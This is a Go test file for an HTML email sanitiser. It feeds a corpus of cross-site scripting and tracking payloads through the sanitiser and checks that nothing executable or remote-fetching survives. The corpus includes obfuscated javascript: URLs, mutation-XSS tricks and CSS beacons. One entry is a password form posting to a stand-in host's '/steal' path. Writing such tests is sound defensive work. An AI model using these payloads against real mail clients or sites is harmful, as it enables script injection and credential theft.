package htmlsafe_test

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"mailgrid/internal/message/htmlsafe"
)

// hostile is a corpus of HTML mail tricks: each must come out without anything that can
// run script, submit a form, navigate, or fetch a remote resource (images off).
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://beacon.test/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="http://beacon.test/pixel.gif" onload="alert(1)">`,
	`<body onload=alert(1)>hi</body>`,
	`<div onmouseover="alert(1)">hover</div>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="jav&#x09;ascript:alert(1)">click</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="http://beacon.test/x.swf"></object><embed src="http://beacon.test/x.swf">`,
	`<svg onload=alert(1)><circle r=10 /></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><style>@import url(http://beacon.test/s.css)</style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<form action="http://beacon.test/steal"><input name=p type=password><button>go</button></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<meta http-equiv="refresh" content="0;url=http://beacon.test/">`,
	`<base href="http://beacon.test/"><a href="/x">rel</a>`,
	`<link rel=stylesheet href="http://beacon.test/s.css">`,
	`<style>body{background:url(http://beacon.test/bg.png)}</style>`,
	`<style>@import 'http://beacon.test/i.css';</style>`,
	`<div style="background-image:url(http://beacon.test/bg.png)">x</div>`,
	`<div style="background:url('http://beacon.test/bg.png')">x</div>`,
	`<div style="color:red;background:u\rl(http://beacon.test/a)">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`,
	`<div style="list-style-image:url(http://beacon.test/l.png)">x</div>`,
	`<div style="behavior:url(x.htc)">x</div>`,
	`<div style="color:red;} body{background:url(http://beacon.test/x)">x</div>`,
	`<table background="http://beacon.test/t.png"><tr><td background="http://beacon.test/td.png">x</td></tr></table>`,
	`<img srcset="http://beacon.test/1x.png 1x">`,
	`<video poster="http://beacon.test/p.png" src="http://beacon.test/v.mp4"></video>`,
	`<audio src="http://beacon.test/a.mp3" autoplay></audio>`,
	`<input type="image" src="http://beacon.test/i.png">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<noscript><style></noscript><img src=x onerror=alert(1)></style>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<textarea><img src=x onerror=alert(1)></textarea>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<img src="x` + "`" + ` onerror=alert(1)">`,
	`<a href="http://example.test/" target="_self" rel="opener">x</a>`,
	`<a href="cid:part1@x">x</a>`,
	`<img src=http://beacon.test/a.png><img src="https://beacon.test/b.png">`,
	`<img src="//beacon.test/protocol-relative.png">`,
	`<p>plain <b>bold</b></p><scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<div id="x" class="y" data-x="1" ping="http://beacon.test/p">x</div>`,
	`<a href="http://example.test/" ping="http://beacon.test/ping">x</a>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<isindex action="javascript:alert(1)">`,
	`<frameset><frame src="http://beacon.test/f"></frameset>`,
	`<applet code="x"></applet>`,
	`<portal src="http://beacon.test/"></portal>`,
	"<img src=\"http://beacon.test/\x00x.png\">",
	`<img src="cid:../../etc/passwd">`,
}

// urlAttrs are the attributes that can carry a URL in the browsers' HTML.
var urlAttrs = []string{"href", "src", "srcset", "action", "formaction", "background", "poster",
	"data", "code", "codebase", "cite", "longdesc", "lowsrc", "ping", "xlink:href", "dynsrc", "usemap", "manifest", "icon"}

// checkSafe parses out the way a browser does (html.Parse, the WHATWG algorithm) and
// asserts only allowed elements, no event handlers, no script-capable or remote URLs.
func checkSafe(t *testing.T, in, out string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("parse output of %q: %v", in, err)
	}
	allowed := append(htmlsafe.AllowedElements(), "html", "head", "body")
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if n.Namespace != "" {
				t.Errorf("%q -> %q: foreign element %s:%s", in, out, n.Namespace, n.Data)
			}
			if !slices.Contains(allowed, n.Data) {
				t.Errorf("%q -> %q: element <%s> kept", in, out, n.Data)
			}
			for _, a := range n.Attr {
				k, v := strings.ToLower(a.Key), strings.ToLower(a.Val)
				if strings.HasPrefix(k, "on") {
					t.Errorf("%q -> %q: event handler %s", in, out, k)
				}
				if k == "style" && (strings.Contains(v, "url") || strings.Contains(v, "expression") || strings.Contains(v, "\\")) {
					t.Errorf("%q -> %q: style %q", in, out, a.Val)
				}
				if slices.Contains(urlAttrs, k) {
					switch {
					case k != "href" && k != "src" && k != "cite":
						t.Errorf("%q -> %q: URL attribute %s kept", in, out, k)
					case strings.Contains(v, "script:"):
						t.Errorf("%q -> %q: script URL %q", in, out, a.Val)
					case strings.HasPrefix(v, "data:") && (n.Data != "img" || !strings.HasPrefix(v, "data:image/") || strings.HasPrefix(v, "data:image/svg")):
						t.Errorf("%q -> %q: data URL %q on <%s>", in, out, a.Val, n.Data)
					case n.Data == "img" && (strings.Contains(v, "beacon.test") || strings.HasPrefix(v, "//")):
						t.Errorf("%q -> %q: remote image kept with images off", in, out)
					case n.Data == "img" && !strings.HasPrefix(v, "/mail/") && !strings.HasPrefix(v, "data:image/"):
						t.Errorf("%q -> %q: img src %q", in, out, a.Val)
					}
				}
			}
			if n.Data == "a" && attr(n, "href") != "" && strings.HasPrefix(attr(n, "href"), "http") {
				if attr(n, "target") != "_blank" || !strings.Contains(attr(n, "rel"), "noopener") || !strings.Contains(attr(n, "rel"), "noreferrer") {
					t.Errorf("%q -> %q: link without target/rel", in, out)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func cidURL(id string) string { return "/mail/part?cid=" + id }

func TestHostileCorpus(t *testing.T) {
	s := htmlsafe.New()
	for _, in := range hostile {
		res := s.Sanitize(in, htmlsafe.Options{CID: cidURL})
		checkSafe(t, in, res.HTML)
		// The output must be a fixed point: sanitising it again changes nothing, so no
		// re-parse (mutation XSS) can turn it into something else.
		again := s.Sanitize(res.HTML, htmlsafe.Options{CID: func(id string) string { return "/mail/part?cid=" + id }})
		if strings.Contains(res.HTML, "cid=") {
			continue // cid URLs are rewritten once; the rest must be stable
		}
		if again.HTML != res.HTML {
			t.Errorf("not a fixed point: %q -> %q -> %q", in, res.HTML, again.HTML)
		}
	}
}

func TestRemoteImages(t *testing.T) {
	s := htmlsafe.New()
	in := `<p>Hi</p><img src="http://beacon.test/a.png" alt="a"><img src="https://beacon.test/b.png">`
	off := s.Sanitize(in, htmlsafe.Options{})
	if off.RemoteBlocked != 2 || strings.Contains(off.HTML, "beacon.test") || off.HTML != "<p>Hi</p>a" {
		t.Fatalf("images off: %+v", off)
	}
	on := s.Sanitize(in, htmlsafe.Options{RemoteImages: true})
	if on.RemoteBlocked != 0 || !strings.Contains(on.HTML, `src="http://beacon.test/a.png"`) || !strings.Contains(on.HTML, `src="https://beacon.test/b.png"`) {
		t.Fatalf("images on: %+v", on)
	}
}

func TestCIDAndLinks(t *testing.T) {
	s := htmlsafe.New()
	in := `<img src="cid:logo%40example.test"><img src="cid:unknown"><a href="https://example.test/x?a=1&amp;b=2">x</a><a href="mailto:a@example.test">m</a>`
	res := s.Sanitize(in, htmlsafe.Options{CID: func(id string) string {
		if id == "logo@example.test" {
			return "/mail/m/1/2/part/2"
		}
		return ""
	}})
	want := []string{`<img src="/mail/m/1/2/part/2">`,
		`<a href="https://example.test/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>`,
		`<a href="mailto:a@example.test">m</a>`}
	for _, w := range want {
		if !strings.Contains(res.HTML, w) {
			t.Errorf("missing %s in %s", w, res.HTML)
		}
	}
}

func TestKeepsFormatting(t *testing.T) {
	s := htmlsafe.New()
	in := `<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td style="color: #333; font-family: 'Helvetica Neue', Arial; padding: 4px 8px; background-color: rgb(240, 240, 240)">Hello <b>you</b></td></tr></table>` +
		`<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`
	res := s.Sanitize(in, htmlsafe.Options{})
	for _, w := range []string{`width="600"`, `bgcolor="#ffffff"`, `color: #333`, `font-family: &#39;Helvetica Neue&#39;, Arial`, `rgb(240, 240, 240)`, `<b>you</b>`, `src="data:image/png;base64,iVBORw0KGgo="`} {
		if !strings.Contains(res.HTML, w) {
			t.Errorf("missing %s in %s", w, res.HTML)
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, h := range hostile {
		f.Add(h)
	}
	s := htmlsafe.New()
	f.Fuzz(func(t *testing.T, in string) {
		res := s.Sanitize(in, htmlsafe.Options{CID: cidURL})
		checkSafe(t, in, res.HTML)
	})
}
